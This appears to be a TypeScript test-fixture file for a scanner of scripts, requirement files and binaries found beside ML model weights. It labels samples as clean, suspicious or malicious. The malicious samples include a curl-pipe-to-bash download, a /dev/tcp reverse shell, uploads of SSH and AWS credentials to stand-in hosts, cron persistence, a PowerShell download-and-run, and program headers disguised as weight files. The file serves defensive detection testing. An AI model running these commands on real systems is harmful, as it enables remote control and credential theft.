// Scripts, requirement files and programs that lie beside models.
import type { Sample } from './sample.ts';
import { textSample } from './text-sample.ts';

/** The least header that is a 64-bit ELF program, and `payload` after it. */
export function buildElf(payload = 64): Uint8Array {
  const bytes = Buffer.alloc(64 + payload);
  bytes.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
  bytes.writeUInt16LE(3, 16);
  bytes.writeUInt16LE(62, 18);
  bytes.writeUInt32LE(1, 20);
  bytes.writeBigUInt64LE(64n, 32);
  bytes.writeUInt16LE(64, 52);
  bytes.writeUInt16LE(56, 54);
  bytes.writeUInt16LE(1, 56);
  return bytes;
}

/** A PE program: DOS header, then the COFF header for x86-64. */
export function buildPe(): Uint8Array {
  const bytes = Buffer.alloc(512);
  bytes.write('MZ');
  bytes.writeUInt32LE(128, 0x3c);
  bytes.write('PE\0\0', 128);
  bytes.writeUInt16LE(0x8664, 132);
  return bytes;
}

/** A Mach-O 64-bit program with one load command. */
export function buildMachO(): Uint8Array {
  const bytes = Buffer.alloc(256);
  bytes.writeUInt32LE(0xfeedfacf, 0);
  bytes.writeUInt32LE(0x0100000c, 4);
  bytes.writeUInt32LE(2, 12);
  bytes.writeUInt32LE(1, 16);
  bytes.writeUInt32LE(72, 20);
  return bytes;
}

const program = (name: string, build: () => Uint8Array, verdict: Sample['verdict'], because: string): Sample => ({
  name,
  build,
  verdict,
  because,
  ...(verdict === 'malicious' || verdict === 'suspicious' ? { check: 'misplaced-program' } : {}),
});

const commit = 'a'.repeat(8) + 'b'.repeat(32);

export const samples: readonly Sample[] = [
  textSample(
    'train.sh',
    '#!/bin/bash\nset -e\npython train.py --lr 1e-4 \\\n  --epochs 3\n',
    'clean',
    'starts a training',
  ),
  textSample(
    'Dockerfile',
    'FROM python:3.12\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\nRUN pip install torch\n',
    'clean',
    'a known installer',
  ),
  textSample(
    'install.sh',
    'curl -s http://203.0.113.5/x | sudo bash\n',
    'malicious',
    'a download that is run',
    'shell-command',
  ),
  textSample(
    'shell.sh',
    '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n',
    'malicious',
    'a shell for somebody else',
    'shell-command',
  ),
  textSample(
    'leak.sh',
    'tar c ~/.ssh\ncurl -F f=@$HOME/.aws/credentials https://x.example\n',
    'malicious',
    'sends keys away',
    'shell-command',
  ),
  textSample(
    'cron.sh',
    '(crontab -l; echo "* * * * * /tmp/x") | crontab -\n',
    'malicious',
    'plants itself',
    'shell-command',
  ),
  textSample(
    'setup-conda.sh',
    'wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O m.sh\nbash m.sh -b\n',
    'clean',
    'an installer everybody uses',
  ),
  textSample(
    'fetch.sh',
    'wget -q http://x.example/tool\nchmod +x tool\n./tool\n',
    'malicious',
    'a download that is run, in three lines',
    'shell-command',
  ),
  textSample(
    'fetch-https.sh',
    'curl -L https://x.example/tool -o /tmp/tool\nchmod 755 /tmp/tool\n',
    'suspicious',
    'a download that may be run',
    'shell-command',
  ),
  textSample('run.bat', '@echo off\r\npython main.py\r\n', 'suspicious', 'a Windows script', 'misplaced-program'),
  textSample(
    'get.ps1',
    "IEX (New-Object Net.WebClient).DownloadString('http://x')\r\n",
    'malicious',
    'a download that is run',
    'shell-command',
  ),
  textSample(
    'model.safetensors',
    '#!/bin/sh\nid\n',
    'malicious',
    'a script under the name of weights',
    'misplaced-program',
  ),
  program('pytorch_model.bin', () => buildElf(), 'malicious', 'a program under the name of weights'),
  program('model.onnx', buildPe, 'malicious', 'a program under the name of a graph'),
  program('weights.h5', buildMachO, 'malicious', 'a program under the name of weights'),
  program('libops.so', () => buildElf(), 'suspicious', 'a library under its own name'),
  program('libops.so.1.2', () => buildElf(), 'suspicious', 'a library with its version'),
  program('helper.exe', buildPe, 'suspicious', 'a program under its own name'),
  program(
    'data.bin',
    () => Buffer.from([0x7f, 0x45, 0x4c, 0x46, 1, 2, 3]),
    'incomplete',
    'four bytes do not make a program',
  ),
  textSample(
    'requirements.txt',
    '# base\ntorch==2.4.0\ntransformers>=4.40,<5 ; python_version > "3.8"\n--extra-index-url https://download.pytorch.org/whl/cu121\n-r other.txt\n',
    'clean',
    'pinned packages',
  ),
  textSample(
    'requirements-vcs.txt',
    'git+https://github.com/someone/pkg.git\n',
    'suspicious',
    'a branch of a repository',
    'package-source',
  ),
  textSample(
    'requirements-url.txt',
    'pkg @ https://x.example/pkg-1.0-py3-none-any.whl\n',
    'suspicious',
    'an archive by its address',
    'package-source',
  ),
  textSample(
    'requirements-index.txt',
    '--index-url http://203.0.113.5/simple\ntorch\n',
    'suspicious',
    'another index',
    'package-source',
  ),
  textSample(
    'requirements-extra.txt',
    '--extra-index-url https://pypi.corp.example/simple\ninternal-pkg\n',
    'suspicious',
    'a second index',
    'package-source',
  ),
  textSample(
    'requirements-trust.txt',
    '--trusted-host x.example\ntorch\n',
    'suspicious',
    'a certificate that is not checked',
    'package-source',
  ),
  textSample(
    'requirements-pinned.txt',
    `pkg @ git+https://github.com/someone/pkg.git@${commit}\n`,
    'clean',
    'one commit and no other',
  ),
  textSample(
    'pyproject.toml',
    '[project]\nname = "x"\ndependencies = ["torch>=2"]\n[project.urls]\nHomepage = "https://x.example"\n',
    'clean',
    'an address that is no package',
  ),
  textSample(
    'own/pyproject.toml',
    '[project]\ndependencies = ["x @ git+https://evil.example/x.git"]\n',
    'suspicious',
    'a package from a repository',
    'package-source',
  ),
  textSample(
    'environment.yml',
    'channels: [conda-forge]\ndependencies:\n  - python=3.11\n  - pip:\n    - torch==2.0\n',
    'clean',
    'a conda environment',
  ),
];
